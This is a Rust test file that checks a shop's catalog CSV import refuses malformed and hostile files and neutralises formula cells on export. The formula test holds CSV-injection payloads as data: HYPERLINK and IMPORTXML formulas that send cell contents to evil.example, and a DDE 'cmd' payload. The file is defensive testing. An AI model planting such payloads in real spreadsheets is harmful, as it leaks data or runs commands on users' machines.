//! Hostile catalog CSV files through `Shop::import_catalog`: refused as a file (an ErrorCode)
//! or row by row (line, field, sentence), and nothing written; formula cells stored as text.

use std::io::Write;
use std::path::{Path, PathBuf};

use shopcast_core::{ErrorCode, ImportReport, Shop};

use super::{Tally, snapshot};
use crate::{product, shop_with};

const HEADER: &str = "sku,name,description,price,currency,stock,tags\n";
/// A good row before each bad one: a refusal must not write it either.
const GOOD_ROW: &str = "NEW-1,Green tea,,12.50,CNY,3,tea\n";

/// What a hostile file must get.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// The whole file refused with this code.
    File(ErrorCode),
    /// Read, but the rows refused (line, field, sentence each) and nothing applied; the field
    /// the first refusal names, when the case is about one.
    Rows(Option<&'static str>),
}
use Expect::{File, Rows};

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(format!("{name}.csv"));
    std::fs::write(&path, bytes).unwrap();
    path
}

/// A file of the header, the good row and `row`.
fn with_row(row: &str) -> Vec<u8> {
    format!("{HEADER}{GOOD_ROW}{row}\n").into_bytes()
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut bytes = if big_endian {
        vec![0xfe, 0xff]
    } else {
        vec![0xff, 0xfe]
    };
    for unit in text.encode_utf16() {
        let pair = if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        };
        bytes.extend(pair);
    }
    bytes
}

fn file_cases() -> Vec<(&'static str, Vec<u8>, Expect)> {
    let invalid = File(ErrorCode::CsvInvalid);
    let mut invalid_utf8_header = b"sku,n\xffme,price\n".to_vec();
    invalid_utf8_header.extend(GOOD_ROW.as_bytes());
    vec![
        ("empty file", Vec::new(), invalid),
        ("only a UTF-8 BOM", b"\xef\xbb\xbf".to_vec(), invalid),
        ("only blank lines", b"\n\n\r\n".to_vec(), invalid),
        (
            "header without price",
            b"sku,name\nA,Tea\n".to_vec(),
            invalid,
        ),
        ("header without name", b"sku,price\nA,1\n".to_vec(), invalid),
        (
            "headers in Chinese",
            "名称,价格\n茶,12\n".as_bytes().to_vec(),
            invalid,
        ),
        (
            "semicolon separated",
            b"sku;name;price\nA;Tea;1\n".to_vec(),
            invalid,
        ),
        (
            "tab separated",
            b"sku\tname\tprice\nA\tTea\t1\n".to_vec(),
            invalid,
        ),
        (
            "no header, data first",
            GOOD_ROW.as_bytes().to_vec(),
            invalid,
        ),
        (
            "UTF-16LE with BOM",
            utf16(&format!("{HEADER}{GOOD_ROW}"), false),
            invalid,
        ),
        (
            "UTF-16BE with BOM",
            utf16(&format!("{HEADER}{GOOD_ROW}"), true),
            invalid,
        ),
        ("UTF-32LE BOM", b"\xff\xfe\0\0s\0\0\0".to_vec(), invalid),
        ("invalid UTF-8 in the header", invalid_utf8_header, invalid),
        (
            "NUL inside a header name",
            b"sku,na\0me,price\nA,Tea,1\n".to_vec(),
            invalid,
        ),
        ("header of NULs", vec![0u8; 4096], invalid),
        (
            "a PNG file",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
            invalid,
        ),
        (
            "a gzip file",
            b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec(),
            invalid,
        ),
        (
            "a ZIP (xlsx) file",
            b"PK\x03\x04\x14\0\x06\0".to_vec(),
            invalid,
        ),
        (
            "HTML page",
            b"<!doctype html><html><body>404</body></html>".to_vec(),
            invalid,
        ),
        (
            "JSON array",
            br#"[{"name":"Tea","price":"1"}]"#.to_vec(),
            invalid,
        ),
        (
            "header is one quoted cell",
            b"\"sku,name,price\"\nA,Tea,1\n".to_vec(),
            invalid,
        ),
        (
            "header with an unclosed quote",
            b"sku,\"name,price\nA,Tea,1\n".to_vec(),
            invalid,
        ),
        (
            "formula as a header",
            b"=HYPERLINK(\"x\"),price\nA,1\n".to_vec(),
            invalid,
        ),
    ]
}

fn row_cases() -> Vec<(&'static str, Vec<u8>, Expect)> {
    let price = Rows(Some("price"));
    let currency = Rows(Some("currency"));
    let stock = Rows(Some("stock"));
    let name = Rows(Some("name"));
    let sku = Rows(Some("sku"));
    let tags = Rows(Some("tags"));
    let long_name = "长".repeat(201);
    let long_description = "d".repeat(10_001);
    let long_tag = "t".repeat(51);
    let many_tags = (0..31)
        .map(|i| format!("t{i}"))
        .collect::<Vec<_>>()
        .join(";");
    let long_sku = "S".repeat(65);
    let mut invalid_utf8_row = format!("{HEADER}{GOOD_ROW}").into_bytes();
    invalid_utf8_row.extend(b"BAD-1,Caf\xe9 latin-1,,3.00,CNY,,\n");
    let mut cp1252 = format!("{HEADER}{GOOD_ROW}").into_bytes();
    cp1252.extend(b"BAD-2,\x93quoted\x94 \x80 price,,3.00,CNY,,\n");
    let mut gbk = format!("{HEADER}{GOOD_ROW}").into_bytes();
    gbk.extend(b"BAD-3,\xc2\xcc\xb2\xe8,,3.00,CNY,,\n"); // 绿茶 in GBK
    vec![
        ("price empty", with_row("B,Tea,,,CNY,,"), price),
        ("price words", with_row("B,Tea,,twelve,CNY,,"), price),
        ("price negative", with_row("B,Tea,,-1,CNY,,"), price),
        ("price double minus", with_row("B,Tea,,--1,CNY,,"), price),
        ("price exponent", with_row("B,Tea,,1e3,CNY,,"), price),
        ("price NaN", with_row("B,Tea,,NaN,CNY,,"), price),
        ("price inf", with_row("B,Tea,,inf,CNY,,"), price),
        (
            "price mixed separators",
            with_row("B,Tea,,\"1,2.3\",CNY,,"),
            price,
        ),
        (
            "price full-width digits",
            with_row("B,Tea,,１２,CNY,,"),
            price,
        ),
        (
            "price Arabic-Indic digits",
            with_row("B,Tea,,٣٤,CNY,,"),
            price,
        ),
        (
            "price overflow i64",
            with_row("B,Tea,,99999999999999999999999,CNY,,"),
            price,
        ),
        (
            "price above the cap",
            with_row("B,Tea,,10000000000000000,CNY,,"),
            price,
        ),
        ("price as a formula", with_row("B,Tea,,=1+1,CNY,,"), price),
        ("price hex", with_row("B,Tea,,0x10,CNY,,"), price),
        ("price fraction", with_row("B,Tea,,1/2,CNY,,"), price),
        ("price two points", with_row("B,Tea,,1..2,CNY,,"), price),
        ("price only a point", with_row("B,Tea,,.,CNY,,"), price),
        (
            "price 3 decimals in CNY",
            with_row("B,Tea,,1.2345,CNY,,"),
            price,
        ),
        (
            "price decimals in JPY",
            with_row("B,Tea,,500.5,JPY,,"),
            price,
        ),
        (
            "price 4 decimals in KWD",
            with_row("B,Tea,,1.2345,KWD,,"),
            price,
        ),
        (
            "price with another code",
            with_row("B,Tea,,EUR 5,CNY,,"),
            price,
        ),
        (
            "price with another symbol",
            with_row("B,Tea,,€5,CNY,,"),
            price,
        ),
        ("price with a NUL", with_row("B,Tea,,1\u{0}2,CNY,,"), price),
        ("currency unknown", with_row("B,Tea,,1,XXX,,"), currency),
        ("currency a symbol", with_row("B,Tea,,1,€,,"), currency),
        ("currency a word", with_row("B,Tea,,1,EURO,,"), currency),
        ("currency digits", with_row("B,Tea,,1,978,,"), currency),
        (
            "currency with a NUL",
            with_row("B,Tea,,1,CN\0Y,,"),
            currency,
        ),
        ("stock decimal", with_row("B,Tea,,1,CNY,1.5,"), stock),
        ("stock words", with_row("B,Tea,,1,CNY,many,"), stock),
        ("stock exponent", with_row("B,Tea,,1,CNY,1e3,"), stock),
        (
            "stock over a billion",
            with_row("B,Tea,,1,CNY,99999999999,"),
            stock,
        ),
        (
            "stock overflow",
            with_row("B,Tea,,1,CNY,99999999999999999999,"),
            stock,
        ),
        ("stock as a formula", with_row("B,Tea,,1,CNY,=A1,"), stock),
        ("name empty", with_row("B,,,1,CNY,,"), name),
        ("name only spaces", with_row("B,   ,,1,CNY,,"), name),
        (
            "name over 200 characters",
            with_row(&format!("B,{long_name},,1,CNY,,")),
            name,
        ),
        ("name with a NUL", with_row("B,Te\0a,,1,CNY,,"), name),
        (
            "name with an escape sequence",
            with_row("B,\u{1b}[31mRed,,1,CNY,,"),
            name,
        ),
        (
            "description over the limit",
            with_row(&format!("B,Tea,{long_description},1,CNY,,")),
            Rows(Some("description")),
        ),
        (
            "description with a NUL",
            with_row("B,Tea,bad\0text,1,CNY,,"),
            Rows(Some("description")),
        ),
        (
            "SKU over 64 characters",
            with_row(&format!("{long_sku},Tea,,1,CNY,,")),
            sku,
        ),
        (
            "SKU with a line break",
            with_row("\"B\nC\",Tea,,1,CNY,,"),
            sku,
        ),
        ("SKU with a NUL", with_row("B\0C,Tea,,1,CNY,,"), sku),
        (
            "duplicate SKU",
            with_row("NEW-1,Other tea,,2.00,CNY,,"),
            sku,
        ),
        (
            "tag too long",
            with_row(&format!("B,Tea,,1,CNY,,{long_tag}")),
            tags,
        ),
        (
            "too many tags",
            with_row(&format!("B,Tea,,1,CNY,,{many_tags}")),
            tags,
        ),
        (
            "tag with a control character",
            with_row("B,Tea,,1,CNY,,a\u{7}b"),
            tags,
        ),
        ("invalid UTF-8 in a row", invalid_utf8_row, Rows(None)),
        ("Windows-1252 text", cp1252, Rows(None)),
        ("GBK text", gbk, Rows(None)),
        (
            "unbalanced quote to the end",
            with_row("B,\"Tea,,1,CNY,,\nC,Cake,,2,CNY,,"),
            Rows(None),
        ),
        ("row of NULs", with_row("\0,\0,\0,\0,\0,\0,\0"), Rows(None)),
        ("columns shifted", with_row("Tea,,1,CNY,B,,"), Rows(None)),
        ("a second header", with_row(HEADER.trim_end()), stock),
    ]
}

/// Runs `cases` against one seeded shop; each must be refused and leave the shop as it was.
async fn run(tally: &mut Tally, cases: Vec<(&'static str, Vec<u8>, Expect)>) {
    let (shop, dir) = shop_with("CNY").await;
    product(&shop, "Seeded oolong", "30", Some(5)).await;
    let files = tempfile::tempdir().unwrap();
    let mut before = snapshot(&shop).await;
    for (index, (name, bytes, expect)) in cases.into_iter().enumerate() {
        let path = write(files.path(), &format!("case{index}"), &bytes);
        let result = shop.import_catalog(&path, false).await;
        judge(tally, name, result, expect);
        tally.unchanged(name, &shop, &mut before).await;
    }
    drop(dir);
}

fn judge(
    tally: &mut Tally,
    name: &str,
    result: shopcast_core::Result<ImportReport>,
    expect: Expect,
) {
    match expect {
        File(code) => tally.refused(name, result, code),
        Rows(field) => {
            let (ok, detail) = match &result {
                Ok(report) => {
                    let every_row_explained = report
                        .errors
                        .iter()
                        .all(|e| e.line > 0 && !e.message.trim().is_empty());
                    let right_field = match field {
                        Some(want) => report
                            .errors
                            .iter()
                            .any(|e| e.field.as_deref() == Some(want)),
                        None => true,
                    };
                    (
                        !report.applied
                            && report.created + report.updated == 0
                            && !report.errors.is_empty()
                            && every_row_explained
                            && right_field,
                        format!("expected refused rows ({field:?}), got {report:?}"),
                    )
                }
                // A file-level refusal is clear too, when it says why.
                Err(error) => (
                    field.is_none() && !error.to_string().trim().is_empty(),
                    format!(
                        "expected refused rows ({field:?}), got {}: {error}",
                        error.code()
                    ),
                ),
            };
            tally.check(name, ok, || detail);
        }
    }
}

#[tokio::test]
async fn hostile_catalog_files_are_refused_and_write_nothing() {
    let mut tally = Tally::new("catalog CSV");
    run(&mut tally, file_cases()).await;
    run(&mut tally, row_cases()).await;
    let tried = tally.finish();
    assert!(tried >= 75, "{tried}");
}

/// Formula cells are plain text in the shop: imported exactly, and exported with the
/// apostrophe spreadsheets read as "text", so opening the export runs nothing.
#[tokio::test]
async fn formula_cells_are_stored_as_text_and_exported_inert() {
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "=1+1",
        "\tTab lead",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
        "＝1+1 (full-width equals)",
        "'=already escaped",
    ];
    let mut tally = Tally::new("catalog CSV formula cells");
    let (shop, _dir) = shop_with("CNY").await;
    let files = tempfile::tempdir().unwrap();
    let mut csv = String::from(HEADER);
    for (i, formula) in formulas.iter().enumerate() {
        let quoted = formula.replace('"', "\"\"");
        csv.push_str(&format!("F-{i},\"{quoted}\",\"{quoted}\",1,CNY,,\n"));
    }
    let report = shop
        .import_catalog(&write(files.path(), "formulas", csv.as_bytes()), false)
        .await
        .unwrap();
    assert!(report.applied, "{report:?}");
    let export = files.path().join("export.csv");
    shop.export_catalog(&export).await.unwrap();
    let mut reader = ::csv::Reader::from_path(&export).unwrap();
    let exported: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for (i, formula) in formulas.iter().enumerate() {
        let stored = shop
            .list_products(&shopcast_core::ProductQuery {
                search: None,
                include_archived: true,
                offset: 0,
                limit: 100,
            })
            .await
            .unwrap()
            .items
            .into_iter()
            .find(|p| p.sku.as_deref() == Some(&format!("F-{i}")))
            .map(|p| p.name);
        let row = exported.iter().find(|r| r[0] == format!("F-{i}")).unwrap();
        let runs = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        // The import keeps the text (a leading apostrophe is the export's, so it goes).
        let expected_name = formula.strip_prefix('\'').unwrap_or(formula).trim();
        tally.check(
            formula,
            stored.as_deref() == Some(expected_name) && !runs(&row[1]) && !runs(&row[2]),
            || format!("stored {stored:?}, exported {:?}", &row),
        );
    }
    tally.finish();
}

/// Files that are odd but readable: the documented outcome is the exact rows.
#[tokio::test]
async fn odd_but_readable_files_import_exactly() {
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "UTF-8 BOM",
            format!("\u{feff}{HEADER}A,茶,,1,CNY,,\nB,Cake,,2,CNY,,\n").into_bytes(),
        ),
        (
            "CRLF line ends",
            b"sku,name,price\r\nA,\xe8\x8c\xb6,1\r\nB,Cake,2\r\n".to_vec(),
        ),
        (
            "mixed LF, CRLF and CR",
            b"sku,name,price\nA,\xe8\x8c\xb6,1\r\nB,Cake,2\rC,Pie,3\n".to_vec(),
        ),
        (
            "no final line end",
            b"sku,name,price\nA,\xe8\x8c\xb6,1\nB,Cake,2".to_vec(),
        ),
        (
            "headers in another order and case",
            b"PRICE,Name,SKU\n1,\xe8\x8c\xb6,A\n2,Cake,B\n".to_vec(),
        ),
        (
            "quoted line break in a description",
            b"sku,name,description,price\nA,\xe8\x8c\xb6,\"two\r\nlines\",1\nB,Cake,,2\n".to_vec(),
        ),
    ];
    let mut tally = Tally::new("catalog CSV, readable oddities");
    for (name, bytes) in cases {
        let (shop, _dir) = shop_with("CNY").await;
        let files = tempfile::tempdir().unwrap();
        let report = shop
            .import_catalog(&write(files.path(), "odd", &bytes), false)
            .await;
        let names: Vec<String> = shop
            .list_products(&shopcast_core::ProductQuery {
                search: None,
                include_archived: true,
                offset: 0,
                limit: 10,
            })
            .await
            .unwrap()
            .items
            .into_iter()
            .map(|p| p.name)
            .collect();
        let want = if name.starts_with("mixed") { 3 } else { 2 };
        let ok = matches!(&report, Ok(r) if r.applied && r.created == want)
            && names.iter().any(|n| n == "茶")
            && names.iter().any(|n| n == "Cake");
        tally.check(name, ok, || format!("{report:?} {names:?}"));
    }
    tally.finish();
}

/// Writes `rows` rows of a valid catalog to `path`, streaming (no copy in memory).
fn write_rows(path: &Path, rows: u64, description: &str) {
    let mut out = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    out.write_all(HEADER.as_bytes()).unwrap();
    for i in 0..rows {
        writeln!(out, "BIG-{i},Tea {i},{description},1.00,CNY,,").unwrap();
    }
    out.flush().unwrap();
}

/// Caps: a file this size is refused whole, before any row is read, and nothing is written.
#[tokio::test]
async fn a_100_mb_catalog_is_refused_with_a_clear_code() {
    let (shop, _dir) = shop_with("CNY").await;
    let files = tempfile::tempdir().unwrap();
    let path = files.path().join("huge.csv");
    // 100 MB of rows with 1 KB descriptions (100,000 rows).
    write_rows(&path, 100_000, &"d".repeat(1_000));
    assert!(std::fs::metadata(&path).unwrap().len() > 100_000_000);
    capped(&shop, &path, "100 MB").await;
}

/// Caps: a million rows are refused (at the row cap), and nothing is written.
#[tokio::test]
async fn a_million_row_catalog_is_refused_with_a_clear_code() {
    let (shop, _dir) = shop_with("CNY").await;
    let files = tempfile::tempdir().unwrap();
    let path = files.path().join("million.csv");
    write_rows(&path, 1_000_000, "");
    capped(&shop, &path, "a million rows").await;
}

async fn capped(shop: &Shop, path: &Path, name: &'static str) {
    let mut tally = Tally::new("catalog CSV caps");
    let mut before = snapshot(shop).await;
    // Only a guard: without the cap the import would run for minutes before failing below.
    let result = tokio::time::timeout(
        std::time::Duration::from_secs(120),
        shop.import_catalog(path, false),
    )
    .await;
    match result {
        Ok(result) => tally.refused(name, result, ErrorCode::CsvTooLarge),
        Err(_) => tally.check(name, false, || {
            "no cap: the import was still running after 2 minutes".into()
        }),
    }
    tally.unchanged(name, shop, &mut before).await;
    tally.finish();
}
